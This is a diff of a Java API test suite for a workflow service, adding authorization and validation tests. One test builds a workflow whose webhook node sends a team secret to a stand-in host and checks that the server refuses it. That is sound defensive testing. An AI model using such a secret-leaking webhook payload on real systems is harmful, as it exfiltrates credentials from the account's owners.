@@ -113,6 +113,74 @@ class WorkflowApiTest {
     }
 
     @Test
+    void whoMayEditAWorkflowAloneGetsNothingElseOfItsAccount() {
+        String id = steps.create("active");
+        String path = "/api/workflows/" + id;
+        api.user("lent");
+        steps.grant(id, "lent", "editor");
+        String lent = api.signIn("lent");
+        String taking = "{\"definition\": %s}".formatted("""
+                {"version": "1.0", "edges": [], "nodes": [
+                  {"id": "out", "type": "webhook", "config": {"url": "https://e.example.com/?x={{secrets.TOP}}", "method": "GET"}},
+                  {"id": "rows", "type": "data_source", "config": {"sourceId": "ds_1", "sourceType": "csv"}}]}""");
+
+        Answer refused = api.put(lent, path, taking);
+        Answer changed = api.put(
+                lent, path, "{\"definition\": %s}".formatted(TwoSteps.DEFINITION.replace("\"First\"", "\"Begin\"")));
+        Answer allowed = api.put(editor, path, taking);
+        Answer restored = api.post(lent, path + "/versions/1/restore", "");
+        Answer again = api.post(lent, path + "/versions/3/restore", "");
+
+        assertThat(refused.status()).isEqualTo(403);
+        assertThat(refused.json().path("errors").findValuesAsText("field"))
+                .containsExactly("definition.nodes[0].config", "definition.nodes[1].config");
+        assertThat(refused.json().path("errors").findValuesAsText("remedy")).hasSize(2);
+        assertThat(refused.json().at("/errors/0/detail").asText()).contains("node out", "the secret TOP");
+        assertThat(refused.json().at("/errors/1/detail").asText()).contains("node rows", "the data source ds_1");
+        assertThat(changed.status()).isEqualTo(200);
+        assertThat(allowed.json().at("/workflow/version").intValue()).isEqualTo(3);
+        assertThat(restored.status()).isEqualTo(200);
+        assertThat(again.status()).isEqualTo(403);
+        // A viewer of the team may use no more than they.
+        steps.grant(id, "viewer", "editor");
+        assertThat(api.put(viewer, path, taking).status()).isEqualTo(403);
+        assertThat(api.post(lent, "/api/workflows", "{\"teamId\": \"team_1\", \"name\": \"x\"}")
+                        .status())
+                .isEqualTo(404);
+    }
+
+    @Test
+    void aTriggerConfigIsCheckedAndOneFromBeforeIsToldOf() {
+        String id = steps.create("active");
+        String path = "/api/workflows/" + id;
+
+        Answer wrong = api.put(editor, path, """
+                {"triggerConfig": {"type": "event", "filters": {}, "filter": "o1"}, "notifications": {"foo": 1, "slowFactor": 1}}
+                """);
+        Answer made = api.post(editor, "/api/workflows", """
+                {"teamId": "team_1", "name": "x", "triggerConfig": {"type": "zzz"}}""");
+        api.engine()
+                .database()
+                .useAsSystem(handle -> handle.execute(
+                        "UPDATE workflows SET trigger_config = '{\"type\":\"event\",\"filter\":\"o1\"}' WHERE id = ?",
+                        id));
+
+        assertThat(wrong.status()).isEqualTo(400);
+        assertThat(wrong.json().path("errors").findValuesAsText("field"))
+                .containsExactlyInAnyOrder(
+                        "triggerConfig.filters",
+                        "triggerConfig.filter",
+                        "notifications.foo",
+                        "notifications.slowFactor");
+        assertThat(made.status()).isEqualTo(400);
+        assertThat(api.get(viewer, path)
+                        .json()
+                        .at("/workflow/triggerConfigFaults/0/field")
+                        .asText())
+                .isEqualTo("triggerConfig.filter");
+    }
+
+    @Test
     void everythingWrongWithAWorkflowIsToldAtOnce() {
         Answer answer = api.post(editor, "/api/workflows", """
                 {"teamId": "team_1", "status": "sleeping", "maxConcurrentRuns": 0,
@@ -145,11 +213,7 @@ class WorkflowApiTest {
         assertThat(may("e", id)).containsExactly(200, 202, 200, 403);
         assertThat(may("a", id)).containsExactly(200, 202, 200, 400);
         assertThat(may("viewer", id)).containsExactly(200, 403, 403, 403);
-        assertThat(api.get(api.signIn("v"), "/api/workflows")
-                        .json()
-                        .path("workflows")
-                        .findValuesAsText("id"))
-                .containsExactly(id);
+        assertThat(ids(api.get(api.signIn("v"), "/api/workflows").json())).containsExactly(id);
         assertThat(api.get(api.signIn("stranger"), "/api/workflows")
                         .json()
                         .path("total")
@@ -191,8 +255,7 @@ class WorkflowApiTest {
         assertThat(mayWith(api.key("guest", KeyScope.QUERY, KeyScope.MANAGE), id))
                 .containsExactly(200, 202, 200, 403);
         assertThat(api.get(sender, "/api/workflows").status()).isEqualTo(403);
-        assertThat(api.get(reader, "/api/workflows").json().path("workflows").findValuesAsText("id"))
-                .containsExactly(id);
+        assertThat(ids(api.get(reader, "/api/workflows").json())).containsExactly(id);
         assertThat(api.get(editor, "/api/workflows?teamId=%00").status()).isEqualTo(400);
     }
 
@@ -208,6 +271,9 @@ class WorkflowApiTest {
         assertThat(wrong.status()).isEqualTo(400);
         assertThat(wrong.json().path("errors").findValuesAsText("field")).contains("timezone");
         assertThat(right.json().path("preview")).hasSize(5);
+        Answer never = api.put(editor, path, "{\"type\": \"cron\", \"cron\": \"0 9 31 2 *\"}");
+        assertThat(never.status()).isEqualTo(400);
+        assertThat(never.json().at("/errors/0/field").asText()).isEqualTo("cron");
         assertThat(api.get(viewer, path).json().path("nextFireAt"))
                 .isEqualTo(right.json().at("/preview/0"));
         assertThat(api.put(viewer, path, "{}").status()).isEqualTo(403);
@@ -239,10 +305,16 @@ class WorkflowApiTest {
     }
 
     private List<String> own(String credentials, String user) {
-        return api.get(credentials, "/api/workflows?limit=200&userId=" + user)
-                .json()
-                .path("workflows")
-                .findValuesAsText("id");
+        return ids(
+                api.get(credentials, "/api/workflows?limit=200&userId=" + user).json());
+    }
+
+    /** Of the workflows of a list, and not of what each of them tells of its last execution. */
+    private static List<String> ids(JsonNode list) {
+        return list.path("workflows")
+                .valueStream()
+                .map(workflow -> workflow.path("id").asText())
+                .toList();
     }
 
     private List<Integer> may(String user, String id) {
